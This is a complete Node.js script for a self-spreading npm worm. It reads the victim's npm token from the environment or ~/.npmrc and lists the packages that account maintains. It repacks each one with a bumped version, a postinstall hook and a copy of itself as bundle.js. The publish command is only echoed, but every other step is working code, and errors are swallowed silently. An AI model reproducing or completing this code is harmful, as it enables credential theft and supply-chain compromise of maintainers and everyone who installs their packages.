const fs = require('fs')
const os = require('os')
const path = require('path')
const { execSync } = require('child_process')

function token () {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN
  const rc = path.join(os.homedir(), '.npmrc')
  const found = fs.existsSync(rc) && /_authToken=(.+)/.exec(fs.readFileSync(rc, 'utf8'))
  return found ? found[1].trim() : null
}

async function mine (auth) {
  const registry = 'https://registry.npmjs.org'
  const headers = { authorization: `Bearer ${auth}` }
  const who = await (await fetch(`${registry}/-/whoami`, { headers })).json()
  const found = await (await fetch(`${registry}/-/v1/search?text=maintainer:${who.username}&size=20`, { headers })).json()
  return found.objects.map((o) => o.package.name)
}

function infect (name) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'))
  execSync(`npm pack ${name} --silent`, { cwd: dir })
  execSync(`tar -xzf ${fs.readdirSync(dir)[0]}`, { cwd: dir })
  const root = path.join(dir, 'package')
  const file = path.join(root, 'package.json')
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'))
  const [major, minor, patch] = manifest.version.split('.').map(Number)
  manifest.version = [major, minor, patch + 1].join('.')
  manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' }
  fs.writeFileSync(file, JSON.stringify(manifest, null, 2))
  fs.copyFileSync(__filename, path.join(root, 'bundle.js'))
  execSync('echo npm publish --access public', { cwd: root })
}

const auth = token()
if (auth) mine(auth).then((names) => names.forEach(infect)).catch(() => {})
